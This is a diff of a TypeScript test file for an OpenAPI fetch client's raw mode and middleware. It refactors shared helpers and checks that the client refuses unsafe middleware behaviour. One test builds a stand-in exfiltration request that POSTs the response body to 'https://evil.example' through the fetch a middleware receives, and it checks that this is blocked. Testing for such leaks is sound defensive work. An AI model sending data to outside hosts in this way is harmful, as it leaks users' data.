@@ -1,16 +1,14 @@
-import { afterEach, describe, expect, test, vi } from "vitest";
+import { describe, expect, test, vi } from "vitest";
 import { contract } from "./contract.ts";
 import type { CallOptions, Fetch } from "./index.ts";
 import { createRawClient, type RawMiddleware, type RawOptions } from "./openapi-fetch.ts";
-import { clientOf, plant, plantResponse, scriptedClient, status } from "./testing/client.ts";
+import { brokenBody, clientOf, plant, plantResponse, scriptedClient, status, useFakeTimers } from "./testing/client.ts";
 
 type CreateOptions = RawOptions<"json", "createPlant">;
 
 const body = { id: 2n ** 63n - 1n, name: "Fern" };
 const TEXT = '{"id":9223372036854775807,"name":"Fern"}';
 const URL = "https://api.example.com/plants";
-
-afterEach(() => vi.useRealTimers());
 
 test.each<[string, () => Response, data: unknown, error?: unknown]>([
   ["a plant, with more than its members", () => Response.json({ name: "Fern", x: 1 }), { name: "Fern", x: 1 }],
@@ -45,11 +43,7 @@ test("raw takes what only a stub can respond: another status is an error, and a 
   expect((await stubbed(304).POST("/plants", { body })).response.body).toBeNull();
 });
 
-function broken(status: number, text: string): Response {
-  const start = (controller: ReadableStreamDefaultController) => controller.enqueue(new TextEncoder().encode(text));
-  const pull = (controller: ReadableStreamDefaultController) => controller.error(new Error("reset"));
-  return new Response(new ReadableStream({ start, pull }), { status });
-}
+const broken = (status: number, text: string) => new Response(brokenBody(text), { status });
 
 describe("raw reads a response as parseAs says:", () => {
   test("json, text, blob, arrayBuffer and stream", async () => {
@@ -108,6 +102,7 @@ describe("raw sends nothing, and fails,", () => {
     "headers: content-length cannot be set: it is the client's own (for Authorization use the token option).";
   const UNKNOWN = "is no option: the options are signal, token, headers,";
   const stolen = vi.fn();
+  const evil = () => new Request("https://evil.example", { method: "POST", body: TEXT });
   const onRequest = (run: NonNullable<RawMiddleware["onRequest"]>) => ({ middleware: [{ onRequest: run }] });
   const reading = (read: (request: Request) => unknown) => onRequest(async ({ request }) => void (await read(request)));
   const changing = (change: (request: Request) => Request) => onRequest(({ request }) => change(request));
@@ -120,11 +115,7 @@ describe("raw sends nothing, and fails,", () => {
     ["over plain http", ONLY_HEADERS, other("http://api.example.com/plants")],
     ["with another method", ONLY_HEADERS, changing(() => new Request(URL))],
     ["with another id", ONLY_HEADERS, changing(() => new Request(URL, { method: "POST", body: '{"id":1.5}' }))],
-    [
-      "by way of the fetch that a middleware gets",
-      ONLY_HEADERS,
-      onRequest(({ options }) => options.fetch(new Request("https://evil.example", { method: "POST", body: TEXT }))),
-    ],
+    ["by way of the fetch that a middleware gets", ONLY_HEADERS, onRequest(({ options }) => options.fetch(evil()))],
     ["if a middleware has read the body", READ_CLONE, reading((request) => request.text())],
     ["if a middleware has locked the body", READ_CLONE, reading((request) => request.body?.getReader())],
     ["if a middleware frames the message", FRAMES, reading(({ headers }) => headers.set("Content-Length", "3"))],
@@ -200,7 +191,7 @@ describe("raw's middleware", () => {
     ["that is repeated after a wait", [status(503, { "Retry-After": "7" }), plant], {}, ["sesame-1", "sesame-1"]],
     ["that is repeated after a 401", [status(401, echo), plant], fresh, ["sesame-1", "sesame-2"]],
   ])("runs once in a call %s, and sees no token", async (_title, responses, options, tokens) => {
-    vi.useFakeTimers();
+    useFakeTimers();
     const { raw, plants, sent, authorizations } = scriptedClient(responses, options);
     const { middleware, runs, seen } = watching();
     raw.use(middleware, { onRequest: ({ request }) => request.headers.set("X-Trace", "7") });
